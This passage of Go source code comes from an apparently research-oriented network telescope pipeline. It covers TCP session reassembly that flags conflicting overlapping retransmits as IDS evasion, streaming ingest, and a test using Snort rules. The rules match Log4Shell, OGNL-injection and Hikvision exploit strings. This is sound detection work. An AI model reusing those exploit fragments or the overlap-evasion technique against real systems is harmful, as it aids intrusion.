		t.Errorf("DroppedBytes = %d, want 15", s.DroppedBytes)
	}

	// Pending-buffer overflow: out-of-order segments beyond MaxPending are
	// dropped and counted.
	a2 := NewAssembler(Config{MaxPending: 2})
	f2 := newFlow(t, a2)
	f2.handshake()
	base := f2.cliSeq
	// Four future segments; only two buffer slots.
	for i := 1; i <= 4; i++ {
		f2.feed(packet.Segment{Src: cli, Dst: srv, Seq: base + uint32(10*i), Flags: packet.FlagACK, Payload: []byte("xxxxx")})
	}
	f2.reset()
	s2 := singleSession(t, a2)
	if s2.DroppedBytes != 10 {
		t.Errorf("pending-overflow DroppedBytes = %d, want 10 (two 5-byte segments)", s2.DroppedBytes)
	}
}

// TestDrainIncremental drives two conversations: one FIN-closed early, one
// left idle. Drain must deliver the closed one immediately, keep the idle
// one assembling until the horizon passes it, and leave nothing behind.
func TestDrainIncremental(t *testing.T) {
	a := NewAssembler(Config{IdleTimeout: time.Minute})
	f := newFlow(t, a)
	f.handshake()
	f.clientSend([]byte("GET / HTTP/1.1\r\n\r\n"))
	f.closeBoth()

	// A second, idle conversation from a different client port.
	idleCli := packet.Endpoint{Addr: cli.Addr, Port: 50001}
	b := packet.NewBuilder(7)
	feedAt := func(ts time.Time, seg packet.Segment) {
		t.Helper()
		frame, err := b.Build(seg)
		if err != nil {
			t.Fatal(err)
		}
		p, err := packet.Decode(frame)
		if err != nil {
			t.Fatal(err)
		}
		a.Feed(ts, p)
	}
	idleStart := f.ts
	feedAt(idleStart, packet.Segment{Src: idleCli, Dst: srv, Seq: 500, Flags: packet.FlagSYN})
	feedAt(idleStart, packet.Segment{Src: srv, Dst: idleCli, Seq: 900, Ack: 501, Flags: packet.FlagSYN | packet.FlagACK})
	feedAt(idleStart, packet.Segment{Src: idleCli, Dst: srv, Seq: 501, Ack: 901, Flags: packet.FlagPSH | packet.FlagACK, Payload: []byte("partial")})

	got := a.Drain(idleStart)
	if len(got) != 1 {
		t.Fatalf("first drain = %d sessions, want 1 (the closed one)", len(got))
	}
	if !got[0].Closed || string(got[0].ClientData) != "GET / HTTP/1.1\r\n\r\n" {
		t.Fatalf("drained wrong session: %+v", got[0])
	}
	if a.OpenConns() != 1 {
		t.Fatalf("open conns = %d, want the idle one", a.OpenConns())
	}
	// Nothing new: drain is empty, idle conversation still assembling.
	if got := a.Drain(idleStart.Add(30 * time.Second)); len(got) != 0 {
		t.Fatalf("premature drain = %d sessions", len(got))
	}
	// Past the idle horizon the second conversation flushes, un-Closed.
	got = a.Drain(idleStart.Add(2 * time.Minute))
	if len(got) != 1 {
		t.Fatalf("final drain = %d sessions, want 1", len(got))
	}
	if got[0].Closed || string(got[0].ClientData) != "partial" {
		t.Fatalf("idle session wrong: %+v", got[0])
	}
	if a.OpenConns() != 0 {
		t.Fatalf("open conns = %d after full drain", a.OpenConns())
	}
}
