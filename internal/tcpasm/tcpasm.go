// Package tcpasm reassembles captured TCP segments into application-layer
// sessions. This is the stage between the telescope's raw pcap and the IDS:
// the paper evaluates Snort signatures over TCP sessions, retaining the
// earliest-published matching signature per session.
//
// The assembler tracks connections by canonical flow, identifies the client
// as the SYN initiator (falling back to first-packet source when the
// handshake was not captured), buffers out-of-order segments in sequence
// space, tolerates retransmission and overlap, and emits a Session when the
// connection closes (FIN/RST from both or either side) or when the assembler
// is flushed at an idle horizon.
//
// DSCOPE sends no application-layer response, so sessions are dominated by
// client-to-server bytes ("client banner data"); the server stream is still
// reassembled for generality.
//
// Overlap policy and ambiguity. Overlapping retransmits whose bytes agree
// are ordinary TCP; overlapping retransmits whose bytes *disagree* are the
// classic IDS-evasion primitive — the capture alone cannot say which copy
// the endpoint accepted. The assembler always detects such conflicts by
// comparing each overlapping prefix against the bytes already delivered:
// any disagreement increments Session.OverlapConflicts and marks the
// session Ambiguous, so downstream consumers see a loud flag instead of a
// silently guessed stream. Config.OverlapPolicy only picks which copy's
// bytes are retained (first-wins, the historical behavior and the default,
// or last-wins); it never suppresses the flag. Detection is a pure function
// of the per-flow segment sequence, so serial and sharded runs flag — and
// resolve — identically.
package tcpasm

import (
	"fmt"
	"runtime"
	"sort"
	"time"

	"repro/internal/packet"
)

// OverlapPolicy selects which copy of a byte is retained when overlapping
// segments carry conflicting content. Either way the conflict itself is
// surfaced via Session.OverlapConflicts and Session.Ambiguous.
type OverlapPolicy uint8

const (
	// OverlapFirstWins keeps the first delivered copy of each byte — the
	// assembler's historical behavior and the default.
	OverlapFirstWins OverlapPolicy = iota
	// OverlapLastWins lets a later overlapping segment overwrite retained
	// bytes, modeling a receiver that honors the retransmission.
	OverlapLastWins
)

// String returns the CLI spelling of the policy.
func (p OverlapPolicy) String() string {
	if p == OverlapLastWins {
		return "last-wins"
	}
	return "first-wins"
}

// ParseOverlapPolicy parses the CLI spelling ("first-wins" or "last-wins";
// empty selects the default).
func ParseOverlapPolicy(s string) (OverlapPolicy, error) {
	switch s {
	case "", "first-wins", "first":
		return OverlapFirstWins, nil
	case "last-wins", "last":
		return OverlapLastWins, nil
	}
	return 0, fmt.Errorf("tcpasm: unknown overlap policy %q (want first-wins or last-wins)", s)
}

// Session is a reassembled TCP conversation.
type Session struct {
	// Client and Server identify the two endpoints. Client is the
	// connection initiator.
	Client packet.Endpoint
	Server packet.Endpoint
	// Start is the timestamp of the first captured segment, End of the last.
	Start time.Time
	End   time.Time
	// ClientData is the in-order application-layer byte stream from client
	// to server; ServerData the reverse direction.
	ClientData []byte
	ServerData []byte
	// Packets is the number of captured segments in the conversation.
	Packets int
	// Complete reports whether the three-way handshake was observed.
	Complete bool
	// Closed reports whether the conversation ended with FIN or RST (as
	// opposed to being flushed at an idle timeout).
	Closed bool
	// DroppedBytes counts payload bytes the assembler could not retain
	// (stream cap reached or the out-of-order buffer overflowed). Nonzero
	// values mean ClientData/ServerData are incomplete — the IDS treats
	// such sessions normally, but audits can weigh them differently.
	DroppedBytes int
	// OverlapConflicts counts segments (both directions) whose overlap with
	// already-delivered bytes disagreed — the retransmission-with-different-
	// content evasion primitive.
	OverlapConflicts int
	// Ambiguous reports that the capture does not uniquely determine the
	// reassembled streams: at least one overlapping retransmit carried
	// conflicting bytes, so an endpoint may have accepted either copy.
	// ClientData/ServerData hold the copy the configured OverlapPolicy
	// picked; verdicts derived from them should be treated as suspect.
	Ambiguous bool
}

// Config tunes the assembler.
type Config struct {
	// MaxStreamBytes caps the bytes retained per direction per session.
	// Bytes past the cap are dropped (counted, not stored). Zero means the
	// default of 1 MiB. The telescope emulates an unresponsive service, so
	// real sessions are small; the cap guards against pathological input.
	MaxStreamBytes int
	// IdleTimeout closes a session that has seen no segment for this long
	// when Advance is called. Zero means the default of 10 minutes (the
	// DSCOPE instance lifetime: nothing can outlive its instance).
	IdleTimeout time.Duration
	// MaxPending caps buffered out-of-order segments per direction. Zero
	// means the default of 64.
	MaxPending int
	// OverlapPolicy picks which copy is retained when overlapping segments
	// conflict (see the package comment). The zero value is
	// OverlapFirstWins. Conflict detection is unconditional — the policy
	// only chooses the bytes, never whether the session is flagged.
	OverlapPolicy OverlapPolicy
	// Shards is how many independent assembler shards the parallel
	// front-end (NewSharded) fans flows across. The serial Assembler
	// ignores it. Zero means min(8, GOMAXPROCS); session output is
	// identical for every value (see Sharded).
	Shards int
	// FlowDisjointFeeders declares that the capture segments feeding the
	// sharded front-end partition connections — no flow spans two feeders —
	// instead of mapping to time-ordered slices of one capture. The
	// streaming telescope's flow-hashed virtual segments are the canonical
	// case. Workers then consume feeder queues fairly through one shared
	// queue per shard, which is required to avoid deadlock when a single
	// producer fans out to live segments, and skip the periodic idle
	// Advance, whose horizon is meaningless across mutually unordered
	// segment timelines. Output is still byte-identical to a serial scan of
	// the time-ordered capture: the Feed-level gap split makes idle
	// handling schedule-independent, and connections without a captured
	// teardown are flushed (identical contents, later emission) at end of
	// capture. The serial Assembler ignores it.
	FlowDisjointFeeders bool
	// Emit, when set, switches the sharded front-end to streaming emission:
	// completed sessions are handed to Emit in batches as shard workers
	// produce them instead of accumulating until Wait (which then returns
	// nil). Emit is called concurrently from the shard workers with no
	// cross-shard ordering guarantee; each call owns its slice. Every
	// session is delivered exactly once. The serial Assembler ignores it.
	Emit func([]Session)
}

func (c Config) withDefaults() Config {
	if c.MaxStreamBytes == 0 {
		c.MaxStreamBytes = 1 << 20
	}
	if c.IdleTimeout == 0 {
		c.IdleTimeout = 10 * time.Minute
	}
	if c.MaxPending == 0 {
		c.MaxPending = 64
	}
	if c.Shards == 0 {
		c.Shards = runtime.GOMAXPROCS(0)
		if c.Shards > 8 {
			c.Shards = 8
		}
	}
	return c
}

// Assembler consumes decoded packets and emits Sessions.
type Assembler struct {
	cfg   Config
	conns map[packet.Flow]*conn
	out   []Session
}

// NewAssembler creates an Assembler with the given configuration.
func NewAssembler(cfg Config) *Assembler {
	return &Assembler{
		cfg:   cfg.withDefaults(),
		conns: make(map[packet.Flow]*conn),
	}
}

// halfStream is one direction of a connection.
type halfStream struct {
	// nextSeq is the next expected sequence number once initialized.
	nextSeq   uint32
	seqValid  bool
	data      []byte
	dropped   int
	pending   []pendingSeg
	sawFin    bool
	finSeq    uint32
	conflicts int
}

type pendingSeg struct {
	seq     uint32
	payload []byte
}

type conn struct {
	client   packet.Endpoint
	server   packet.Endpoint
	start    time.Time
	last     time.Time
	packets  int
	complete bool
	synSeen  bool
	c2s      halfStream
	s2c      halfStream
	closed   bool
}

// Feed processes one decoded packet captured at ts. Completed sessions are
// queued; drain them with Sessions.
func (a *Assembler) Feed(ts time.Time, p *packet.Packet) {
	flow := p.Flow()
	key := flow.Canonical()
	c, ok := a.conns[key]
	if ok && ts.Sub(c.last) >= a.cfg.IdleTimeout {
		// The gap alone ends the old conversation: an Advance at any moment
		// inside it would have idled the connection out, so splitting here
		// makes session output independent of Advance cadence. That
		// invariance is what lets the sharded front-end advance each shard
		// on its own schedule and still emit byte-identical sessions.
		a.finish(key, c)
		ok = false
	}
	if !ok {
		c = &conn{start: ts, last: ts}
		if p.TCP.SYN() && !p.TCP.ACK() {
			c.client, c.server = flow.Src, flow.Dst
			c.synSeen = true
		} else {
			// Mid-stream pickup: assume the first seen source is the client.
			c.client, c.server = flow.Src, flow.Dst
		}
		a.conns[key] = c
	}
	c.last = ts
	c.packets++

	fromClient := flow.Src == c.client
	if p.TCP.SYN() && !p.TCP.ACK() && !c.synSeen {
		// A SYN after mid-stream pickup re-anchors the client.
		c.client, c.server = flow.Src, flow.Dst
		c.synSeen = true
		fromClient = true
	}
	if p.TCP.SYN() && p.TCP.ACK() && c.synSeen {
		c.complete = true
	}

	dir := &c.c2s
	if !fromClient {
		dir = &c.s2c
	}
	a.feedDir(dir, p.TCP)

	if p.TCP.RST() {
		c.closed = true
		a.finish(key, c)
		return
	}
	if c.c2s.sawFin && c.s2c.sawFin {
		c.closed = true
		a.finish(key, c)
	}
}

// feedDir integrates one segment into a direction's stream.
func (a *Assembler) feedDir(h *halfStream, t *packet.TCP) {
	seq := t.Seq
	payload := t.LayerPayload()

	if t.SYN() {
		// SYN consumes one sequence number; data begins at seq+1.
		h.nextSeq = seq + 1
		h.seqValid = true
		return
	}
	if !h.seqValid {
		// Mid-stream pickup: anchor at this segment.
		h.nextSeq = seq
		h.seqValid = true
	}
	if len(payload) > 0 {
		a.insert(h, seq, payload)
	}
	if t.FIN() {
		h.sawFin = true
		h.finSeq = seq + uint32(len(payload))
	}
}

// insert places payload at seq, delivering in-order bytes and buffering
// out-of-order ones.
func (a *Assembler) insert(h *halfStream, seq uint32, payload []byte) {
	diff := int32(seq - h.nextSeq)
	switch {
	case diff == 0:
		a.deliver(h, payload)
	case diff < 0:
		// Retransmission or partial overlap: compare the overlapping prefix
		// against what was already delivered (flagging a conflict when they
		// disagree), then deliver only the new suffix.
		if rest := a.resolveOverlap(h, uint32(-diff), payload); len(rest) > 0 {
			a.deliver(h, rest)
		}
		return
	default:
		// Future segment: buffer a copy (the decode buffer may be reused).
		if len(h.pending) < a.cfg.MaxPending {
			cp := make([]byte, len(payload))
			copy(cp, payload)
			h.pending = append(h.pending, pendingSeg{seq: seq, payload: cp})
		} else {
			h.dropped += len(payload)
		}
		return
	}
	a.drainPending(h)
}

// resolveOverlap handles a segment whose first overlap bytes precede the
// stream head: the overlapping prefix is compared byte-for-byte against the
// retained stream, a disagreement counts one conflict (per segment) and the
// overlap policy decides whether the new copy overwrites the old, and the
// not-yet-delivered suffix (possibly empty) is returned. The comparison is
// skipped — never misreported — when the overlapped bytes are not retained:
// before a mid-stream anchor, or after any bytes were dropped (stream cap /
// pending overflow), where delivered offsets no longer map into data.
func (a *Assembler) resolveOverlap(h *halfStream, overlap uint32, payload []byte) []byte {
	cmp := len(payload)
	if uint32(cmp) > overlap {
		cmp = int(overlap)
	}
	if h.dropped == 0 {
		// payload[i] corresponds to h.data[idx+i]; idx < 0 means the
		// segment reaches below the retained window (mid-stream pickup).
		idx := len(h.data) - int(overlap)
		off := 0
		if idx < 0 {
			off = -idx
			idx = 0
		}
		conflict := false
		for i := off; i < cmp; i++ {
			if h.data[idx+i-off] != payload[i] {
				conflict = true
				if a.cfg.OverlapPolicy != OverlapLastWins {
					break
				}
				h.data[idx+i-off] = payload[i]
			}
		}
		if conflict {
			h.conflicts++
		}
	}
	if uint32(len(payload)) > overlap {
		return payload[overlap:]
	}
	return nil
}

// deliver appends in-order bytes, honoring the per-stream cap, and advances
// the expected sequence number.
func (a *Assembler) deliver(h *halfStream, payload []byte) {
	h.nextSeq += uint32(len(payload))
	room := a.cfg.MaxStreamBytes - len(h.data)
	if room <= 0 {
		h.dropped += len(payload)
		return
	}
	if len(payload) > room {
		h.dropped += len(payload) - room
		payload = payload[:room]
	}
	h.data = append(h.data, payload...)
}

// drainPending repeatedly delivers buffered segments that have become
// contiguous with the stream head.
func (a *Assembler) drainPending(h *halfStream) {
	for {
		progress := false
		// Sort so the earliest usable segment is found first; pending lists
		// are tiny (MaxPending) so this is cheap.
		sort.Slice(h.pending, func(i, j int) bool {
			return int32(h.pending[i].seq-h.nextSeq) < int32(h.pending[j].seq-h.nextSeq)
		})
		remaining := h.pending[:0]
		for _, seg := range h.pending {
			diff := int32(seg.seq - h.nextSeq)
			switch {
			case diff == 0:
				a.deliver(h, seg.payload)
				progress = true
			case diff < 0:
				// Same conflict check as the in-order path; fully duplicate
				// data (after the check) is discarded.
				if rest := a.resolveOverlap(h, uint32(-diff), seg.payload); len(rest) > 0 {
					a.deliver(h, rest)
					progress = true
				}
			default:
				remaining = append(remaining, seg)
			}
		}
		h.pending = remaining
		if !progress {
			return
		}
	}
}

// finish emits the session for c and forgets the connection.
func (a *Assembler) finish(key packet.Flow, c *conn) {
	a.out = append(a.out, Session{
		Client:           c.client,
		Server:           c.server,
		Start:            c.start,
		End:              c.last,
		ClientData:       c.c2s.data,
		ServerData:       c.s2c.data,
		Packets:          c.packets,
		Complete:         c.complete,
		Closed:           c.closed,
		DroppedBytes:     c.c2s.dropped + c.s2c.dropped,
		OverlapConflicts: c.c2s.conflicts + c.s2c.conflicts,
		Ambiguous:        c.c2s.conflicts+c.s2c.conflicts > 0,
	})
	delete(a.conns, key)
}

// Advance informs the assembler of the current capture time, closing any
// connection idle past the configured timeout.
func (a *Assembler) Advance(now time.Time) {
	for key, c := range a.conns {
		if now.Sub(c.last) >= a.cfg.IdleTimeout {
			a.finish(key, c)
		}
	}
}

// Drain advances the idle horizon to now and returns every session
// completed so far (FIN/RST-closed or newly idled out), ordered by end
// time. This is the streaming counterpart of Flush+Sessions: a live ingest
// pipeline calls Drain after each batch of packets so finished
// conversations flow downstream while long-lived ones keep assembling.
func (a *Assembler) Drain(now time.Time) []Session {
	a.Advance(now)
	return a.Sessions()
}

// Flush closes all open connections regardless of idleness. Call at end of
// capture.
func (a *Assembler) Flush() {
	for key, c := range a.conns {
		a.finish(key, c)
	}
}

// Sessions returns and clears the queue of completed sessions, ordered by
// session end time (map iteration during Flush is unordered, and downstream
// analyses index sessions temporally).
func (a *Assembler) Sessions() []Session {
	s := a.out
	a.out = nil
	sortSessions(s)
	return s
}

// sortSessions orders sessions by (End, Start, Client, Server) — a total
// order over distinct conversations, so the serial path and any merge of
// per-shard outputs land in exactly the same order.
func sortSessions(s []Session) {
	sort.Slice(s, func(i, j int) bool { return lessSession(&s[i], &s[j]) })
}

func lessSession(a, b *Session) bool {
	if !a.End.Equal(b.End) {
		return a.End.Before(b.End)
	}
	if !a.Start.Equal(b.Start) {
		return a.Start.Before(b.Start)
	}
	if c := a.Client.Addr.Compare(b.Client.Addr); c != 0 {
		return c < 0
	}
	if a.Client.Port != b.Client.Port {
		return a.Client.Port < b.Client.Port
	}
	if c := a.Server.Addr.Compare(b.Server.Addr); c != 0 {
		return c < 0
	}
	return a.Server.Port < b.Server.Port
}

// OpenConns reports the number of connections still being tracked.
func (a *Assembler) OpenConns() int { return len(a.conns) }
