package ingest

import (
	"fmt"
	"path/filepath"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/ids"
	"repro/internal/pcapio"
	"repro/internal/registry"
	"repro/internal/rules"
)

// datedTestRules returns the three test signatures as dated rules, so a
// registry can serve them as base + published delta.
func datedTestRules(t testing.TB) []rules.DatedRule {
	t.Helper()
	texts := []string{
		`alert tcp any any -> any any (msg:"jndi"; content:"${jndi:"; nocase; reference:cve,2021-44228; sid:1;)`,
		`alert tcp any any -> any any (msg:"ognl"; content:"/%24%7B"; http_uri; reference:cve,2022-26134; sid:2;)`,
		`alert tcp any any -> any any (msg:"hik"; content:"/SDK/webLanguage"; http_uri; reference:cve,2021-36260; sid:3;)`,
	}
	var rs []rules.DatedRule
	for i, text := range texts {
		r, err := rules.Parse(text)
		if err != nil {
			t.Fatal(err)
		}
		rs = append(rs, rules.DatedRule{Rule: r, Published: time.Date(2021, 12, 1+i, 0, 0, 0, 0, time.UTC)})
	}
	return rs
}

// labelKey extends eventKey with the publication date, so parity checks also
// cover the paper's earliest-published dating, not just which rule hit.
func labelKey(ev ids.Event) string {
	return fmt.Sprintf("%s|%d", eventKey(ev), ev.Published.UnixNano())
}

func collectLabelKeys(events []ids.Event) map[string]int {
	m := make(map[string]int, len(events))
	for _, ev := range events {
		m[labelKey(ev)]++
	}
	return m
}

// TestHotReloadParity is the issue's hot-reload acceptance test: a pipeline
// starts on a reduced ruleset, the full ruleset is published mid-stream (an
// RCU engine swap between batches), and after the retroactive rescan the
// store's resolved labels are identical — event for event, publication date
// for publication date — to a cold run over the final ruleset. Zero sessions
// dropped, none double-matched, for every reassembly shard count.
func TestHotReloadParity(t *testing.T) {
	all := datedTestRules(t)
	sessions := testSessions(900)
	capDir := t.TempDir()
	files := writeSegments(t, capDir, "dscope", sessions, 64<<10)
	if len(files) < 3 {
		t.Fatalf("only %d segments; lower maxBytes", len(files))
	}

	// Cold truth: the same capture scanned once with the final ruleset.
	src, err := pcapio.OpenFiles(files...)
	if err != nil {
		t.Fatal(err)
	}
	coldEvents, coldStats, err := ids.ScanCapture(src, ids.NewEngine(all, ids.Config{PortInsensitive: true}))
	src.Close()
	if err != nil {
		t.Fatal(err)
	}
	if len(coldEvents) == 0 {
		t.Fatal("cold scan found nothing; fixture broken")
	}
	want := collectLabelKeys(coldEvents)

	for _, shards := range []int{1, 3, 8} {
		t.Run(fmt.Sprintf("shards=%d", shards), func(t *testing.T) {
			base := t.TempDir()
			reg, err := registry.Open(registry.Config{
				Dir:    filepath.Join(base, "rules"),
				Base:   all[:1],
				Engine: ids.Config{PortInsensitive: true},
			})
			if err != nil {
				t.Fatal(err)
			}
			defer reg.Close()
			store, err := eventstore.Open(filepath.Join(base, "store"), eventstore.Options{})
			if err != nil {
				t.Fatal(err)
			}
			defer store.Close()

			p, err := Start(Config{
				Dir: capDir, Prefix: "dscope",
				EngineSource: reg.Engine, Digests: reg,
				Store:        store,
				PollInterval: 2 * time.Millisecond, FlushIdle: 50 * time.Millisecond,
				BatchSessions: 32, DecodeShards: shards,
			})
			if err != nil {
				t.Fatal(err)
			}

			// Publish the remaining rules once matching is underway, so the
			// swap lands between batches of a live stream. If the pipeline
			// outruns the publish, the rescan below still converges — but
			// with 900 sessions it reliably does not.
			deadline := time.Now().Add(30 * time.Second)
			for p.Metrics().Sessions < 64 {
				if time.Now().After(deadline) {
					t.Fatalf("pipeline never started matching: %+v", p.Metrics())
				}
				time.Sleep(time.Millisecond)
			}
			if _, err := reg.Publish(all[1:]); err != nil {
				t.Fatal(err)
			}

			for !p.Metrics().Idle() {
				if time.Now().After(deadline) {
					t.Fatalf("pipeline never went idle: %+v", p.Metrics())
				}
				time.Sleep(10 * time.Millisecond)
			}
			if err := p.Close(); err != nil {
				t.Fatal(err)
			}

			// Every reassembled session left a digest: nothing was dropped
			// in the swap, nothing was matched twice.
			if n := reg.DigestCount(); n != int64(coldStats.Sessions) {
				t.Fatalf("digests %d, cold run saw %d sessions", n, coldStats.Sessions)
			}

			// The retroactive rescan re-attributes the sessions matched
			// before the swap; the resolved snapshot is the cold run.
			if !reg.RescanNeeded() {
				t.Fatal("publish did not leave a pending rescan")
			}
			if _, err := reg.Rescan(store); err != nil {
				t.Fatal(err)
			}
			got := collectLabelKeys(store.Snapshot().Events())
			if len(got) != len(want) {
				t.Fatalf("resolved %d distinct labels, cold run %d", len(got), len(want))
			}
			for k, n := range want {
				if got[k] != n {
					t.Fatalf("label %s: resolved %d, cold %d", k, got[k], n)
				}
			}
		})
	}
}
