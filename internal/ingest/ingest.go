// Package ingest is the daemon's streaming capture pipeline: it tails a
// directory of rotating pcap segments as a telescope writes them,
// incrementally reassembles TCP sessions, evaluates them against the dated
// IDS ruleset in bounded batches, and appends the attributed events to an
// eventstore — the continuous counterpart of the one-shot ids.ScanCapture
// batch path, producing the identical event set for the same capture.
//
// Shape:
//
//	tailer goroutine:   segments -> zero-copy decode -> flow-sharded tcpasm
//	shard workers:      per-flow reassembly (tcpasm.Sharded, DecodeShards)
//	matcher goroutine:  session batches -> ids.MatchSessionsParallel -> store
//
// The two stages are joined by a bounded channel, so a slow matcher
// backpressures the tailer instead of buffering unboundedly. The matcher is
// a single goroutine (parallelism lives inside MatchSessionsParallel), so
// events reach the store in session order. Close drains: everything already
// on disk is consumed, open connections are flushed, the final batches are
// matched and appended, then the goroutines exit.
package ingest

import (
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fault"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/registry"
	"repro/internal/tcpasm"
)

// Config wires a Pipeline.
type Config struct {
	// Dir is the watch directory; Prefix the rotating-segment prefix
	// (RotatingWriter naming: prefix-000001.pcap). Prefix defaults to
	// "dscope".
	Dir    string
	Prefix string
	// Engine evaluates sessions. Required unless EngineSource is set.
	Engine *ids.Engine
	// EngineSource, when set, is consulted at each batch boundary for the
	// engine to evaluate against — the registry's hot-reload hook. The swap
	// is batch-atomic: a batch is matched entirely under one engine, so no
	// session is dropped or double-matched across a reload. A nil return
	// falls back to Engine.
	EngineSource func() *ids.Engine
	// Digests, when set, receives one digest per session — matched or not —
	// so a later ruleset publication can re-attribute stored history.
	// Digest durability rides the checkpoint cadence: the sink is synced
	// before a checkpoint persists.
	Digests DigestSink
	// Store receives the events. Either Store or Sink is required; when both
	// are set, Sink wins.
	Store *eventstore.Store
	// Sink, when set, receives event batches instead of a local store — a
	// sensor node points this at its fleet shipper so matched events head
	// upstream rather than to disk-local analysis.
	Sink Sink
	// CheckpointDir holds the drained-position checkpoint. Empty means the
	// Store's directory (checkpointing is disabled for a Sink-only pipeline
	// with no CheckpointDir).
	CheckpointDir string
	// FS is the filesystem checkpoints are written against. Nil means the
	// real one; the simulation harness substitutes a fault.SimFS. Capture
	// segments are always read from the real filesystem — they are the
	// telescope's input, not this process's durable state.
	FS fault.FS
	// PollInterval is how often the tailer re-checks for new bytes when it
	// has caught up. Zero means 100ms.
	PollInterval time.Duration
	// FlushIdle flushes still-open connections after the watch directory
	// has been quiet for this long (wall clock) — sessions that will never
	// see a FIN still reach the IDS. Zero means 2s.
	FlushIdle time.Duration
	// BatchSessions is the target sessions per match batch. Zero means 256.
	BatchSessions int
	// QueueDepth bounds the batches in flight between tailer and matcher.
	// Zero means 4.
	QueueDepth int
	// MatchWorkers is passed to ids.MatchSessionsParallel. Zero selects
	// GOMAXPROCS.
	MatchWorkers int
	// DecodeShards overrides Assembler.Shards for the flow-sharded
	// reassembly stage (see tcpasm.Sharded); zero defers to Assembler.Shards
	// and its default of min(8, GOMAXPROCS).
	DecodeShards int
	// Assembler tunes TCP reassembly (stream caps, idle horizon in capture
	// time).
	Assembler tcpasm.Config
}

// Sink receives matched event batches. *eventstore.Store satisfies it, as
// does the fleet shipper.
type Sink interface {
	AppendBatch(events []ids.Event) error
}

// DigestSink receives per-session digests at match time. *registry.Registry
// satisfies it.
type DigestSink interface {
	RecordDigests(ds []registry.Digest) error
	SyncDigests() error
	SampleLimit() int
}

// syncer is implemented by sinks with durable state (*eventstore.Store, the
// fleet shipper). The checkpoint never advances past events such a sink has
// not yet fsynced: a checkpoint that outran the sink would skip re-ingesting
// capture whose events were lost with the page cache.
type syncer interface{ Sync() error }

func (c Config) withDefaults() Config {
	if c.Prefix == "" {
		c.Prefix = "dscope"
	}
	if c.Sink == nil && c.Store != nil {
		c.Sink = c.Store
	}
	if c.CheckpointDir == "" && c.Store != nil {
		c.CheckpointDir = c.Store.Dir()
	}
	if c.PollInterval == 0 {
		c.PollInterval = 100 * time.Millisecond
	}
	if c.FlushIdle == 0 {
		c.FlushIdle = 2 * time.Second
	}
	if c.BatchSessions == 0 {
		c.BatchSessions = 256
	}
	if c.QueueDepth == 0 {
		c.QueueDepth = 4
	}
	return c
}

// Metrics is a point-in-time view of pipeline progress, the numbers behind
// the daemon's /metrics endpoint.
type Metrics struct {
	// Counters since start.
	Packets      uint64
	DecodeErrors uint64
	Sessions     uint64
	Events       uint64
	Batches      uint64
	SegmentsDone uint64
	SkippedBytes uint64 // trailing garbage in completed segments
	// AmbiguousSessions counts sessions the reassembler flagged for
	// conflicting overlapping retransmits — evidence of evasion games
	// against the capture front-end.
	AmbiguousSessions uint64
	// Gauges.
	OpenConns       int   // connections still assembling
	PendingSessions int   // assembled sessions not yet handed to the matcher
	QueuedBatches   int   // batches waiting for the matcher
	PendingBytes    int64 // capture bytes on disk not yet consumed
	// LastBatchLatency is the match+append time of the most recent batch.
	LastBatchLatency time.Duration
}

// Lag is the total unprocessed backlog: bytes on disk plus work buffered
// inside the pipeline, in rough units of "things left to do". Zero means
// every byte written so far has flowed through to the store.
func (m Metrics) Lag() int64 {
	return m.PendingBytes + int64(m.OpenConns) + int64(m.PendingSessions) + int64(m.QueuedBatches)
}

// Idle reports whether the pipeline has fully caught up with the on-disk
// capture: nothing pending at any stage.
func (m Metrics) Idle() bool { return m.Lag() == 0 }

// Pipeline is a running ingest pipeline.
type Pipeline struct {
	cfg    Config
	asm    *tcpasm.Sharded
	feeder *tcpasm.Feeder // owned by the tailer goroutine

	batchCh chan []tcpasm.Session
	stop    chan struct{}
	tailerD chan struct{}
	matchD  chan struct{}

	packets      atomic.Uint64
	decodeErrs   atomic.Uint64
	sessions     atomic.Uint64
	events       atomic.Uint64
	shipped      atomic.Uint64 // batches handed to the matcher
	batches      atomic.Uint64 // batches fully matched and appended
	segmentsDone atomic.Uint64
	skippedBytes atomic.Uint64
	ambiguous    atomic.Uint64
	openConns    atomic.Int64
	pendingSess  atomic.Int64
	consumed     atomic.Int64 // bytes consumed across all segments
	lastBatchNs  atomic.Int64

	errMu    sync.Mutex
	firstErr error

	// Checkpoint plumbing: the tailer proposes a candidate at each drain-
	// consistent point (idle flush, final drain) along with how many batches
	// had been shipped by then; the checkpoint is persisted once the matcher
	// has applied that many, by whichever side gets there second.
	ckptMu      sync.Mutex
	candCkpt    checkpoint
	candShipped uint64
	savedCkpt   checkpoint

	closeOnce sync.Once
	closeErr  error
}

// Start begins tailing. The returned Pipeline runs until Close.
func Start(cfg Config) (*Pipeline, error) {
	cfg = cfg.withDefaults()
	if (cfg.Engine == nil && cfg.EngineSource == nil) || cfg.Sink == nil {
		return nil, errors.New("ingest: Config needs an Engine (or EngineSource) and a Store or Sink")
	}
	if cfg.Dir == "" {
		return nil, errors.New("ingest: Config needs a watch Dir")
	}
	if _, err := os.Stat(cfg.Dir); err != nil {
		return nil, fmt.Errorf("ingest: watch dir: %w", err)
	}
	acfg := cfg.Assembler
	if cfg.DecodeShards != 0 {
		acfg.Shards = cfg.DecodeShards
	}
	p := &Pipeline{
		cfg:     cfg,
		asm:     tcpasm.NewSharded(acfg, 1),
		batchCh: make(chan []tcpasm.Session, cfg.QueueDepth),
		stop:    make(chan struct{}),
		tailerD: make(chan struct{}),
		matchD:  make(chan struct{}),
	}
	p.feeder = p.asm.Feeder(0)
	go p.tailer()
	go p.matcher()
	return p, nil
}

// Err returns the first fatal pipeline error (store append failure,
// unreadable segment), or nil.
func (p *Pipeline) Err() error {
	p.errMu.Lock()
	defer p.errMu.Unlock()
	return p.firstErr
}

func (p *Pipeline) fail(err error) {
	p.errMu.Lock()
	if p.firstErr == nil {
		p.firstErr = err
	}
	p.errMu.Unlock()
}

// Close drains and stops the pipeline: all bytes already on disk are
// consumed, open connections flush, and the final events land in the store
// before Close returns. Safe to call more than once.
func (p *Pipeline) Close() error {
	p.closeOnce.Do(func() {
		close(p.stop)
		<-p.tailerD
		<-p.matchD
		// Every drained event is now applied; the final candidate from the
		// drain is safe to persist.
		p.maybeCheckpoint()
		p.closeErr = p.Err()
	})
	return p.closeErr
}

// ShardStats snapshots the reassembly shards (open connections, queue
